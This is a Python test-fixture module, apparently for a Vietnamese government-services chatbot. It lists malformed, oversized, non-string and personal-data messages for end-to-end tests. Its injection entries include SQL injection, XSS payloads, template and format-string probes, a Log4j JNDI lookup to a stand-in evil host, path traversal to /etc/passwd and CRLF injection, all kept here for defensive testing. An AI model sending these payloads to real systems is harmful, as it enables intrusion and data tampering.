"""A corpus of bad inputs citizens (or attackers) send, one entry per kind.

Used by tests/e2e/test_bad_inputs.py on every channel. Each entry names its kind, the
message, and the personal data in it that must never be stored as typed. ``text``
may be something other than a string: JSON lets a client send a number, a list or
an object where the message belongs.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any


@dataclass(frozen=True)
class BadInput:
    """One kind of bad input.

    Attributes:
        kind: a short name (the test id).
        text: what is sent as the message.
        personal: substrings that must not appear in trackers or the turn log.
    """

    kind: str
    text: Any
    personal: tuple[str, ...] = field(default=())

    @property
    def is_text(self) -> bool:
        """Whether it is a string (the only thing Telegram and Zalo can deliver)."""
        return isinstance(self.text, str)

    @property
    def visible(self) -> bool:
        """Whether a chat app would deliver it at all (not blank)."""
        return self.is_text and bool(self.text.strip())


PHONE, CCCD, EMAIL = "0912345678", "079123456789", "nguyen.van.a@gmail.com"

CORPUS: list[BadInput] = [
    # blank, tiny and invisible
    BadInput("empty", ""),
    BadInput("spaces", "     "),
    BadInput("newlines", "\n\n\n"),
    BadInput("tab", "\t"),
    BadInput("one_letter", "a"),
    BadInput("punctuation", "???!!!..."),
    BadInput("emoji_only", "😀😀😀"),
    BadInput("emoji_zwj_family", "👨\u200d👩\u200d👧\u200d👦"),
    BadInput("zero_width_only", "\u200b\u200b\u200b"),
    BadInput("rtl_override", "\u202elam giay khai sinh"),
    BadInput("nul_byte", "lam\x00 giay"),
    BadInput("control_chars", "\x01\x02\x03\x1b[31m"),
    BadInput("bom_prefix", "\ufeffxin chào"),
    BadInput("noncharacters", "\uffff\ufffe"),
    BadInput("combining_stack", "a" + "\u0301" * 40),
    BadInput("mixed_scripts", "Привет 你好 مرحبا שלום"),
    # length
    BadInput("just_under_limit", "lam giay khai sinh " * 52),
    BadInput("just_over_limit", "x" * 1001),
    BadInput("ten_thousand", "lệ phí " * 1500),
    BadInput("one_long_word", "a" * 4000),
    BadInput("many_lines", "\n".join(["a"] * 300)),
    BadInput("repeated_question", "lệ phí làm căn cước? " * 40),
    # injections
    BadInput("sql_drop", "'; DROP TABLE procedures; --"),
    BadInput("sql_or", "1' OR '1'='1"),
    BadInput("xss_script", "<script>alert(1)</script>"),
    BadInput("xss_img", "<img src=x onerror=alert(1)>"),
    BadInput("html_entities", "&lt;b&gt;&amp;&#x27;"),
    BadInput("markdown", "**đậm** _nghiêng_ [link](javascript:alert(1))"),
    BadInput("telegram_html", "<b>đậm</b><a href='tg://x'>a</a>"),
    BadInput("printf", "%s%s%s%n%x"),
    BadInput("python_format", "{0.__class__.__mro__}"),
    BadInput("jinja", "{{7*7}} {% for x in y %}"),
    BadInput("log4j", "${jndi:ldap://evil.example/a}"),
    BadInput("path_traversal", "../../../../etc/passwd"),
    BadInput("url", "http://evil.example/?q=<x>"),
    BadInput("json_in_text", '{"sender":"tg-1","message":"x"}'),
    BadInput("crlf", "xin chao\r\nX-Injected: 1"),
    BadInput("regex_bomb", "a" * 50 + "@" + ".a" * 200),
    # payloads typed by hand
    BadInput("slash_alone", "/"),
    BadInput("double_slash", "//"),
    BadInput("unknown_intent", "/does_not_exist"),
    BadInput("broken_payload_json", '/ask_fees{"query":'),
    BadInput("nested_payload", '/ask_fees{"query":{"a":[1,2,{"b":null}]}}'),
    BadInput("huge_entity", '/ask_procedure{"query":"' + "x" * 600 + '"}'),
    BadInput("restart", "/restart"),
    BadInput("session_start", "/session_start"),
    BadInput("nlu_fallback", "/nlu_fallback"),
    BadInput("slot_names", '/ask_fees{"procedure_code":"<script>","choices":["x"],"misunderstandings":99}'),
    BadInput("rating_evil", '/rate_answer{"rating":"evil"}'),
    BadInput("rating_unanswered", '/rate_answer{"rating":"down","rating_reason":"x<script>"}'),
    BadInput("bogus_choice", '/choose_procedure{"procedure_code":"9.999999"}'),
    BadInput("payload_nul", '/ask_fees{"query":"a\\u0000b"}'),
    # personal data, also behind a "/"
    BadInput("phone_after_slash", f"/ask_fees {PHONE} lam cccd", (PHONE,)),
    BadInput("id_in_payload", f'/ask_procedure{{"query":"cccd {CCCD}"}}', (CCCD,)),
    BadInput("phone_spaced", "goi cho toi 0912 345 678 nhe", ("0912 345 678",)),
    BadInput("phone_plus84", "sdt +84 912 345 678", ("912 345 678",)),
    BadInput("cccd", f"so cccd cua toi la {CCCD}", (CCCD,)),
    BadInput("email", f"gui vao {EMAIL} giup", (EMAIL,)),
    BadInput("dossier_code", "ma ho so H56.22-240315-0001 toi dau roi", ("240315-0001",)),
    BadInput("fullwidth_phone", "０９１２３４５６７８", ("０９１２３４５６７８", PHONE)),
    BadInput("zero_width_in_phone", "09\u200b12\u200b345678", (PHONE,)),
    BadInput("long_digit_run", "stk 1234567890123", ("1234567890123",)),
    # odd but harmless
    BadInput("no_diacritics", "lam cccd o dau"),
    BadInput("teencode", "ko bik lam sao dc, ad oi"),
    BadInput("procedure_code", "1.001193"),
    BadInput("zero", "0"),
    BadInput("huge_number", "-1.5e308"),
    BadInput("js_words", "undefined null NaN"),
    # not a string at all (REST answers 400, socket.io a kind reply)
    BadInput("number", 12345),
    BadInput("float", 1.5),
    BadInput("boolean", True),
    BadInput("null", None),
    BadInput("list", ["lệ phí"]),
    BadInput("object", {"text": "lệ phí"}),
]
